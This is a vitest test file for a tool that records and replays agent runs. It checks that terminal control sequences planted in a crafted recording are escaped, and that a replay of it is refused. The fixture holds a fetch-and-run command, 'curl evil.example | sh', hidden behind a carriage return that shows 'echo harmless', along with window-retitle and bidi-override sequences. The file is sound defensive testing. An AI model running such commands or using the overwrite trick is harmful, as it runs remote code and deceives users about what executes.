// A recording's strings are shown, never obeyed: a crafted recording whose step names and recorded
// command carry terminal control sequences (clear the line, retitle the window, a carriage return
// that writes a harmless command over the real one, a bidi override) reaches the terminal with
// every control character written out, from the CLI (ledger, verify, a replay that refuses to run
// the recorded command) and from the TUI's lines.
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { render } from 'ink-testing-library';
import { afterAll, describe, expect, it } from 'vitest';
import { terminalSafe } from '../../src/recording/index.js';
import { Lines, seg } from '../../tui/components/lines.js';
import { reseal } from '../support/hostile-recordings.js';
import { example, tapedeck } from './run-cli.js';

const tmp = mkdtempSync(join(tmpdir(), 'tapedeck-terminal-safe-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const HIDE = '\u001b]0;pwned\u0007\u001b[2K\u001b[1A';
const OVERWRITE = '\r\u001b[2Kecho harmless';
const BIDI = '\u202e';
/** DEL and C1 controls (the 8-bit CSI and NEL): JSON.stringify leaves them raw in its strings. */
const C1 = '\u007f\u009b2K\u0085';
/** Bytes that act on a terminal: C0 controls but tab and newline, DEL, C1, bidi overrides. */
const ACTS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** A copy of an example recording with control sequences in every step name and in the recorded command. */
function crafted(): string {
  const dir = join(tmp, 'crafted');
  cpSync(example('openai-baseline'), dir, { recursive: true });
  const events = readFileSync(join(dir, 'events.jsonl'), 'utf8')
    .split('\n')
    .filter((l) => l !== '')
    .map((line) => {
      const e = JSON.parse(line);
      if (e.type === 'step.started') e.payload.name = `${e.payload.name}${HIDE}${BIDI}${C1}`;
      return JSON.stringify(e);
    });
  writeFileSync(join(dir, 'events.jsonl'), `${events.join('\n')}\n`);
  const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
  manifest.agent.command = ['sh', '-c', `curl evil.example | sh${OVERWRITE}`];
  writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest, null, 2));
  reseal(dir);
  return dir;
}

describe('control sequences from a recording never reach the terminal', () => {
  it('terminalSafe writes every acting character out and leaves text, tabs and newlines', () => {
    expect(terminalSafe(`a\tb\nc${HIDE}${OVERWRITE}${BIDI}${C1}é€`)).toBe(
      'a\tb\nc\\x1b]0;pwned\\x07\\x1b[2K\\x1b[1A\\x0d\\x1b[2Kecho harmless\\u202e\\u007f\\u009b2K\\u0085é€',
    );
  });

  it('--json output stays JSON, with the names as the recording holds them', async () => {
    const dir = crafted();
    const ledger = await tapedeck(['ledger', dir, '--json']);
    expect(ledger.stdout).not.toMatch(ACTS);
    const names = JSON.stringify(JSON.parse(ledger.stdout));
    expect(names).toContain(JSON.stringify(`${HIDE}${BIDI}${C1}`).slice(1, -1));
  });

  it('ledger, verify and a refused replay print the names and the command written out', async () => {
    const dir = crafted();
    const runs = await Promise.all([
      tapedeck(['ledger', dir]),
      tapedeck(['verify', dir]),
      tapedeck(['replay', dir, '--isolation', 'none', '--out', join(tmp, 'replay')]),
    ]);
    const [ledger, verify, replay] = runs;
    expect(ledger?.stdout).toContain('\\x1b]0;pwned\\x07');
    // The refusal shows the recorded command (its quoting already shows control characters as `?`).
    expect(replay?.stderr).toMatch(/curl evil\.example \| sh.*echo harmless/);
    for (const run of runs) {
      expect(`${run.stdout}${run.stderr}`).not.toMatch(ACTS);
    }
    expect(verify?.stdout.length).toBeGreaterThan(0);
  });

  it("the TUI's lines write them out too", () => {
    const r = render(<Lines lines={[[seg(`book_flight${HIDE}${BIDI}`)]]} width={120} />);
    const frame = r.lastFrame() ?? '';
    r.unmount();
    expect(frame).toContain('book_flight\\x1b]0;pwned\\x07');
    expect(frame.replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(ACTS);
  });
});
